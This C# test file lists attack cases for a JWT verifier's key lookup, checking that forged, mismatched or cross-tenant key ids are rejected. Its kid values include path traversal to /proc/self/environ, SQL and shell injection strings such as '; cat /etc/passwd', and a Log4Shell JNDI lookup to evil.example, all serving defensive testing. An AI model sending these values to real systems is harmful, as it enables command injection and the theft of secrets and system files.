using static Platform.Admission.Tests.Attacks.AttackCases;

namespace Platform.Admission.Tests.Attacks;

/// <summary>Which key verifies: the issuer's own of that id and algorithm, and no other.</summary>
internal static class KeyCases
{
    private const string Family = "key";

    public static IEnumerable<AttackCase> All =>
    [
        Control(Family, "by its id", s => s.Token()),
        Control(Family, "without id, where one key fits", s => s.Token(alg: "ES256", header: h => h.Remove("kid"))),
        Case(Family, "without id, where two keys fit", Reasons.KeyUnknown, s => s.Token(header: h => h.Remove("kid"))),
        .. new[]
            {
                "nobody", "ACME-RSA", "acme-rsa ", " acme-rsa", "acme-rsa\0", "acme-rsa\n", "acme-rs", "globex-rsa", "strict-rsa", "0", "-1", "*", "__proto__", "constructor",
                "../../../../../../dev/null", "..\\..\\windows\\win.ini", "/proc/self/environ", "file:///dev/null", "https://evil.example/key", "acme-rsa' OR '1'='1", "x' UNION SELECT 'key", "; cat /etc/passwd", "$(id)", "${jndi:ldap://evil.example/a}",
                "аcme-rsa", "acme\u2010rsa", "acme-rsa\u200b", "acme-p256", "acme-ed",
            }
            .Select(kid => Case(Family, $"kid {System.Text.Json.JsonSerializer.Serialize(kid)}", Reasons.KeyUnknown, s => s.Token(header: h => h["kid"] = kid))),
        Case(Family, "kid empty", Reasons.TokenMalformed, s => s.Token(header: h => h["kid"] = "")),
        Case(Family, "kid of 600 characters", Reasons.TokenMalformed, s => s.Token(header: h => h["kid"] = new string('k', 600))),
        Case(Family, "kid null", Reasons.TokenMalformed, s => s.Token(header: h => h["kid"] = null)),
        Case(Family, "kid a number", Reasons.TokenMalformed, s => s.Token(header: h => h["kid"] = 1)),
        Case(Family, "kid a list", Reasons.TokenMalformed, s => s.Token(header: h => h["kid"] = List("acme-rsa"))),
        Case(Family, "kid an object", Reasons.TokenMalformed, s => s.Token(header: h => h["kid"] = s.Acme.PublicKey("acme-rsa"))),
        Case(Family, "the RSA key's id on ES256", Reasons.KeyUnknown, s => s.Token(alg: "ES256", header: h => h["kid"] = "acme-rsa")),
        Case(Family, "the P-384 key's id on ES256", Reasons.KeyUnknown, s => s.Token(alg: "ES256", header: h => h["kid"] = "acme-p384")),
        Case(Family, "the P-256 key's id on EdDSA", Reasons.KeyUnknown, s => s.Token(alg: "EdDSA", header: h => h["kid"] = "acme-p256")),
        Case(Family, "the issuer's other RSA key's id", Reasons.SignatureInvalid, s => s.Token(header: h => h["kid"] = "acme-rsa2")),
        Case(Family, "another tenant's key under the issuer's id", Reasons.SignatureInvalid, s => s.Globex.Sign(s.Header(), s.Claims())),
        Case(Family, "another tenant's P-256 key under the issuer's id", Reasons.SignatureInvalid, s => s.Globex.Sign(s.Header("ES256"), s.Claims())),
        Case(Family, "another tenant's Ed25519 key under the issuer's id", Reasons.SignatureInvalid, s => s.Globex.Sign(s.Header("EdDSA"), s.Claims())),
        Case(Family, "another tenant's key under its own id", Reasons.KeyUnknown, s => s.Globex.Sign(s.Header(change: h => h["kid"] = "globex-rsa"), s.Claims())),
        Case(Family, "another provider's key of the same tenant", Reasons.KeyUnknown, s => s.Strict.Sign(s.Header(by: s.Strict), s.Claims())),
        Case(Family, "the issuer's key on another provider's issuer", Reasons.KeyUnknown, s => s.Acme.Sign(s.Header(), s.Claims(by: s.Strict))),
        Case(Family, "the issuer's key under another provider's id and issuer", Reasons.SignatureInvalid, s => s.Acme.Sign(s.Header(by: s.Strict), s.Claims(by: s.Strict))),
        Case(Family, "keys that are not here", Reasons.KeysUnavailable, s => s.Token(c => c["iss"] = "https://keyless.acme.example")),
    ];
}
